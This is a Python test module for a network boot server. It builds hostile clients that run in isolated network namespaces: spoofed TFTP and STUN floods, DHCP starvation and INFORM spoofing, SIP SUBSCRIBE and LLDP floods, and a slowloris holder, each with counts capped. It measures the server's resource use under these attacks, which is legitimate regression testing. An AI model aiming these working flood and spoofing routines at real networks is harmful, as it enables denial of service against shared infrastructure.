"""Hostile clients for the namespace tests and `bench/hostile.py`: floods,
spoofed sources and slow clients, each bounded in count and time.

Run inside an attacker namespace (it sends raw frames on `--interface`):

    python -m tests.hostile ATTACK --server-mac .. --server-ip .. [options]

and prints one JSON line: what it sent (`sent`, `bytes_out` at the IP layer)
and, for `watch`, what arrived. Spoofed frames are built with netboot's own
frame builder (`netboot.dhcp.codec.build_udp_frame`), so one flood costs a
`send` per frame instead of scapy's per-packet machinery.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import random
import resource
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from ipaddress import IPv4Address, IPv4Network
from pathlib import Path
from typing import Any

from netboot.dhcp import codec as dhcp_codec
from netboot.wire import parse_mac

ETH_P_ALL = 0x0003
IP_HEADER = 20
UDP_HEADER = 8


def _mac(text: str) -> bytes:
    return parse_mac(text)


def _random_mac(rng: random.Random) -> bytes:
    return bytes([0x02, *(rng.randrange(256) for _ in range(5))])


class Raw:
    """An AF_PACKET socket on one interface: spoofed UDP frames out."""

    def __init__(self, interface: str) -> None:
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.bind((interface, 0))
        self.own_mac = self.sock.getsockname()[4]
        self.sent = 0
        self.bytes_out = 0  # IP datagrams, headers included

    def udp(
        self,
        src_ip: str,
        dst_ip: str,
        sport: int,
        dport: int,
        payload: bytes,
        dst_mac: bytes,
        src_mac: bytes | None = None,
    ) -> None:
        frame = dhcp_codec.build_udp_frame(
            src_mac or self.own_mac,
            dst_mac,
            int(IPv4Address(src_ip)),
            int(IPv4Address(dst_ip)),
            sport,
            dport,
            payload,
        )
        self.sock.send(frame)
        self.sent += 1
        self.bytes_out += IP_HEADER + UDP_HEADER + len(payload)


def _sources(network: str, count: int, rng: random.Random, avoid: set[str]) -> list[str]:
    hosts = [str(h) for h in IPv4Network(network).hosts() if str(h) not in avoid]
    return [rng.choice(hosts) for _ in range(count)]


# ---------------------------------------------------------------- attacks


def tftp_flood(args: argparse.Namespace, raw: Raw, rng: random.Random) -> dict[str, Any]:
    """Spoofed RRQs with timeout=255 (issue 16: ~2200 in 0.6 s used to exhaust
    the server's descriptors)."""
    rrq = b"\x00\x01" + args.file.encode() + b"\x00octet\x00timeout\x00255\x00"
    sources = args.source or _sources(args.network, args.count, rng, {args.server_ip})
    for i in range(args.count):
        raw.udp(sources[i % len(sources)], args.server_ip, 20000 + i % 40000, 69, rrq, args.dst_mac)
    return {}


def tftp_plain(args: argparse.Namespace, raw: Raw, rng: random.Random) -> dict[str, Any]:
    """A plain RRQ (no options) from a spoofed source: the RFC 1350 minimum."""
    rrq = b"\x00\x01" + args.file.encode() + b"\x00octet\x00"
    for i in range(args.count):
        raw.udp(args.source[0], args.server_ip, 30000 + i, 69, rrq, args.dst_mac)
    return {}


SUBSCRIBE = (
    "SUBSCRIBE sip:MAC%3a{mac}@224.0.1.75 SIP/2.0\r\n"
    "Via: SIP/2.0/UDP {ip}:5060;branch=z9hG4bK{n}\r\n"
    "From: <sip:MAC%3a{mac}@224.0.1.75>;tag={n}\r\n"
    "To: <sip:MAC%3a{mac}@224.0.1.75>\r\n"
    "Call-ID: {n}@{ip}\r\n"
    "CSeq: 1 SUBSCRIBE\r\n"
    "Contact: <sip:{ip}:5060>\r\n"
    "Max-Forwards: 70\r\n"
    "User-Agent: snom300/8.7.3.25\r\n"
    "Expires: 0\r\n"
    'Event: ua-profile;profile-type="device";vendor="OEM";model="snom300";version="8.7.3.25"\r\n'
    "Accept: application/url\r\n"
    "Content-Length: 0\r\n\r\n"
)


def tftp_oack(args: argparse.Namespace, raw: Raw, rng: random.Random) -> dict[str, Any]:
    """An RRQ with options (blksize, tsize) from a spoofed source: answered by an OACK."""
    rrq = b"\x00\x01" + args.file.encode() + b"\x00octet\x00blksize\x001428\x00tsize\x000\x00"
    for i in range(args.count):
        raw.udp(args.source[0], args.server_ip, 31000 + i, 69, rrq, args.dst_mac)
    return {}


def stun_spoof(args: argparse.Namespace, raw: Raw, rng: random.Random) -> dict[str, Any]:
    """Bare RFC 8489 Binding requests (20 bytes) from a spoofed source."""
    for i in range(args.count):
        request = b"\x00\x01\x00\x00\x21\x12\xa4\x42" + rng.randbytes(12)
        raw.udp(args.source[0], args.server_ip, 32000 + i, 3478, request, args.dst_mac)
    return {}


def dhcp_discover(args: argparse.Namespace, raw: Raw, rng: random.Random) -> dict[str, Any]:
    """DISCOVERs from random MACs, each from its own Ethernet source (starvation)."""
    for _ in range(args.count):
        chaddr = _random_mac(rng)
        msg = dhcp_codec.DhcpMessage(
            op=dhcp_codec.BOOTREQUEST,
            xid=rng.randrange(1 << 32),
            chaddr=chaddr,
            options={53: bytes((1,))},
        )
        raw.udp("0.0.0.0", "255.255.255.255", 68, 67, dhcp_codec.encode(msg), b"\xff" * 6, chaddr)
    return {}


def pnp_flood(args: argparse.Namespace, raw: Raw, rng: random.Random) -> dict[str, Any]:
    """Spoofed SUBSCRIBEs to the PnP group from `--sources` in-subnet addresses
    (issue 16: 10 000 from 248 sources filled the answer table for good)."""
    sources = args.source or _sources(args.network, args.sources, rng, {args.server_ip})
    group_mac = bytes.fromhex("01005e00014b")
    for n in range(args.count):
        ip = sources[n % len(sources)]
        mac = "".join(f"{b:02x}" for b in _random_mac(rng))
        payload = SUBSCRIBE.format(mac=mac, ip=ip, n=f"{n}x{rng.randrange(1 << 30)}").encode()
        raw.udp(ip, "224.0.1.75", 5060, 5060, payload, group_mac)
    return {}


def dhcp_inform(args: argparse.Namespace, raw: Raw, rng: random.Random) -> dict[str, Any]:
    """INFORMs with a foreign ciaddr (issue 16: answered through the default route)."""
    for n in range(args.count):
        chaddr = _random_mac(rng)
        msg = dhcp_codec.DhcpMessage(
            op=dhcp_codec.BOOTREQUEST,
            xid=rng.randrange(1 << 32),
            chaddr=chaddr,
            ciaddr=int(IPv4Address(args.source[0])),
            options={53: bytes((8,)), 55: bytes((1, 3, 6, 66))},
        )
        raw.udp(
            args.source[0],
            args.server_ip,
            68,
            67,
            dhcp_codec.encode(msg),
            args.dst_mac,
            src_mac=chaddr if n % 2 else None,
        )
    return {}


def lldp_flood(args: argparse.Namespace, raw: Raw, rng: random.Random) -> dict[str, Any]:
    """LLDP-MED endpoint frames from random source MACs (issue 16: 5000 left +10 MB)."""
    for _ in range(args.count):
        mac = _random_mac(rng)
        tlvs = b"".join(
            (
                _tlv(1, b"\x04" + mac),  # chassis id: MAC address
                _tlv(2, b"\x03" + mac),  # port id: MAC address
                _tlv(3, struct.pack("!H", 120)),
                _tlv(127, b"\x00\x12\xbb\x01" + struct.pack("!HB", 0x33, 3)),  # MED caps, class III
                _tlv(0, b""),
            )
        )
        frame = bytes.fromhex("0180c200000e") + mac + b"\x88\xcc" + tlvs
        raw.sock.send(frame)
        raw.sent += 1
        raw.bytes_out += len(frame)
    return {}


def _tlv(kind: int, value: bytes) -> bytes:
    return struct.pack("!H", kind << 9 | len(value)) + value


def slowloris(args: argparse.Namespace, raw: Raw | None, rng: random.Random) -> dict[str, Any]:
    """`--count` TCP connections that send half a request header and then a
    byte now and then, held `--hold` seconds (issue 16: 1100 of them)."""
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    with contextlib.suppress(ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, args.count + 256), hard))
    held: list[socket.socket] = []
    refused = 0
    for _ in range(args.count):
        s = socket.socket()
        s.settimeout(2)
        try:
            s.connect((args.server_ip, args.port))
            s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
            s.setblocking(False)
            held.append(s)
        except OSError:
            refused += 1
            s.close()
    closed = 0
    deadline = time.monotonic() + args.hold
    while time.monotonic() < deadline and held:
        for s in list(held):
            try:
                s.send(b"X")
                if s.recv(100) == b"":
                    raise ConnectionResetError
            except BlockingIOError:
                continue
            except OSError:
                closed += 1
                held.remove(s)
                s.close()
        time.sleep(0.5)
    still = len(held)
    for s in held:
        s.close()
    return {"opened": args.count - refused, "refused": refused, "closed": closed, "held": still}


def watch(args: argparse.Namespace, raw: Raw | None, rng: random.Random) -> dict[str, Any]:
    """A victim: counts the UDP datagrams (and their IP bytes) that arrive from
    `--server-ip` for `--seconds`, optionally holding a UDP port open without
    reading it (a host that drops silently, no ICMP)."""
    hold: socket.socket | None = None
    if args.port:
        hold = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        hold.bind(("0.0.0.0", args.port))
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sniff.bind((args.interface, 0))
    sniff.settimeout(0.2)
    server = IPv4Address(args.server_ip).packed
    packets = 0
    ip_bytes = 0
    print(json.dumps({"ready": True}), flush=True)
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        try:
            frame, address = sniff.recvfrom(65535)
        except TimeoutError:
            continue
        if address[2] == socket.PACKET_OUTGOING or len(frame) < 34:
            continue
        if frame[12:14] != b"\x08\x00" or frame[23] != 17 or frame[26:30] != server:
            continue
        packets += 1
        ip_bytes += struct.unpack("!H", frame[16:18])[0]
    if hold is not None:
        hold.close()
    return {"packets": packets, "bytes_in": ip_bytes}


ATTACKS: dict[str, Callable[..., dict[str, Any]]] = {
    "tftp-flood": tftp_flood,
    "tftp-plain": tftp_plain,
    "tftp-oack": tftp_oack,
    "stun-spoof": stun_spoof,
    "dhcp-discover": dhcp_discover,
    "pnp-flood": pnp_flood,
    "dhcp-inform": dhcp_inform,
    "lldp-flood": lldp_flood,
    "slowloris": slowloris,
    "watch": watch,
}


# ---------------------------------------------------------------- the segment

SERVER = "192.168.10.2"
GATEWAY = "192.168.10.1"  # on the attacker: where a reflected reply would go
ATTACKER = "192.168.10.66"
VICTIM = "192.168.10.77"
PHONE_MAC = "00:04:13:29:1a:4b"  # a Snom: the MAC its SUBSCRIBE names (tests.test_pnp_netns.SNOM)
REPO = Path(__file__).resolve().parent.parent

CONFIG = """
[dhcp]
subnet = "192.168.10.0/24"
pool = "192.168.10.100-192.168.10.199"
router = "{gateway}"
lease_time = 600
ping_check = false
[pnp]
enabled = true
max_tracked = {pnp_tracked}
[tftp]
enabled = true
timeout = 1.0
max_sessions = {tftp_sessions}
max_sessions_per_source = 4
[http]
enabled = true
port = 80
https_port = 0
max_connections = {http_connections}
max_connections_per_address = 16
[lldp]
enabled = {lldp}
max_neighbors = 64
[stun]
enabled = {stun}
addresses = ["{server}"]
"""


class HostileSite:
    """One phone segment: netboot, a phone, an attacker and a victim host on
    a bridge; netboot's default route points at the attacker (what a
    reflected reply to an off-link address would use)."""

    def __init__(
        self,
        lab: Any,
        tmp: Path,
        *,
        lldp: bool = False,
        tftp_sessions: int = 128,
        http_connections: int = 512,
        pnp_tracked: int = 256,
        stun: bool = False,
    ) -> None:
        from tests.netns import Segment, server_config

        self.lab = lab
        self.tmp = tmp
        hosts = {
            "srv": f"{SERVER}/24",
            "phone": None,
            "att": f"{ATTACKER}/24",
            "vic": f"{VICTIM}/24",
        }
        wire = Segment(lab, hosts, macs={"phone": PHONE_MAC})
        self.srv, self.phone, self.attacker, self.victim = (wire[role] for role in hosts)
        self.phone.run(["ip", "route", "add", "224.0.0.0/4", "dev", "eth0"])
        self.attacker.run(["ip", "addr", "add", f"{GATEWAY}/24", "dev", "eth0"])
        self.srv.run(["ip", "route", "add", "default", "via", GATEWAY])
        self.server_mac = self.srv.run(["cat", "/sys/class/net/eth0/address"]).stdout.strip()
        self.root = tmp / "files"
        self.root.mkdir()
        self.firmware = bytes(i * 7 % 251 for i in range(256 * 1024))
        (self.root / "fw.bin").write_bytes(self.firmware)
        (self.root / "000413291a4b.cfg").write_text("[phone]\nowner=1a4b\n")
        body = CONFIG.format(
            server=SERVER,
            gateway=GATEWAY,
            lldp="true" if lldp else "false",
            tftp_sessions=tftp_sessions,
            http_connections=http_connections,
            pnp_tracked=pnp_tracked,
            stun="true" if stun else "false",
        )
        url = f"http://{SERVER}/$mac.cfg"
        text = server_config(body, state=tmp / "state", address=SERVER, url=url, root=self.root)
        self.server = wire.server("srv", tmp / "netboot.toml", text).start()
        self.phone_ip = ""

    @property
    def pid(self) -> int:
        assert self.server.proc is not None
        return self.server.proc.pid

    def lease(self, configure: bool = True) -> str:
        from tests.netns import udhcpc_lease

        env = udhcpc_lease(self.phone, self.tmp, configure=configure)
        self.phone_ip = env["ip"]
        return self.phone_ip

    def attack(self, name: str, *args: str, ns: Any = None) -> Any:
        """Start an attack (or a `watch`) in its namespace; `result` collects it."""
        argv = [
            sys.executable,
            "-m",
            "tests.hostile",
            name,
            "--server-ip",
            SERVER,
            "--server-mac",
            self.server_mac,
            *args,
        ]
        return self.lab.spawn(
            ns or self.attacker,
            argv,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            cwd=REPO,
        )

    @staticmethod
    def result(proc: Any, timeout: float = 60) -> dict[str, Any]:
        out, err = proc.communicate(timeout=timeout)
        lines = [line for line in out.splitlines() if line.startswith("{")]
        assert proc.returncode == 0 and lines, f"exit {proc.returncode}: {out}\n{err}"
        result: dict[str, Any] = json.loads(lines[-1])
        return result

    def fds(self) -> int:
        return len(list(Path(f"/proc/{self.pid}/fd").iterdir()))

    def rss_kib(self) -> int:
        for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
        return 0

    def tftp_get(self, name: str = "fw.bin") -> tuple[float, bool]:
        """(seconds, file intact) of one tftp-hpa `get` from the phone."""
        local = self.tmp / f"got-{name}"
        local.unlink(missing_ok=True)
        started = time.monotonic()
        self.phone.run(
            ["tftp", "-m", "binary", SERVER, "-c", "get", name, str(local)],
            timeout=60,
            check=False,
        )
        took = time.monotonic() - started
        ok = local.exists() and local.read_bytes() == (self.root / name).read_bytes()
        return took, ok

    def http_get(self, name: str = "000413291a4b.cfg") -> tuple[float, int]:
        """(seconds, HTTP status) of one curl GET from the phone."""
        started = time.monotonic()
        proc = self.phone.run(
            ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "20",
             f"http://{SERVER}/{name}"],
            timeout=30,
            check=False,
        )  # fmt: skip
        took = time.monotonic() - started
        return took, int(proc.stdout.strip() or 0)

    def metric(self, name: str, **labels: str) -> float:
        """One sample of /metrics, fetched from the phone (0 when absent)."""
        proc = self.phone.run(
            ["curl", "-sS", "--max-time", "10", f"http://{SERVER}/metrics"], timeout=20
        )
        want = ",".join(f'{k}="{v}"' for k, v in sorted(labels.items()))  # as exposed
        for line in proc.stdout.splitlines():
            if line.startswith(f"{name}{{{want}}} ") or (
                not labels and line.startswith(name + " ")
            ):
                return float(line.rsplit(" ", 1)[1])
        return 0.0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--interface", default="eth0")
    parser.add_argument("--server-ip", required=True)
    parser.add_argument("--server-mac", default="ff:ff:ff:ff:ff:ff")
    parser.add_argument("--network", default="192.168.10.0/24")
    parser.add_argument("--source", action="append", default=[], help="spoofed source IP(s)")
    parser.add_argument("--sources", type=int, default=248)
    parser.add_argument("--count", type=int, default=100)
    parser.add_argument("--file", default="fw.bin")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--hold", type=float, default=10.0)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--seed", type=int, default=16)
    args = parser.parse_args(argv)
    args.count = min(args.count, 20000)  # bounded, whatever is asked
    args.dst_mac = _mac(args.server_mac)
    rng = random.Random(args.seed)
    raw = None if args.attack in ("slowloris", "watch") else Raw(args.interface)
    started = time.monotonic()
    result = ATTACKS[args.attack](args, raw, rng)
    if raw is not None:
        result.update(sent=raw.sent, bytes_out=raw.bytes_out)
    result["seconds"] = round(time.monotonic() - started, 3)
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
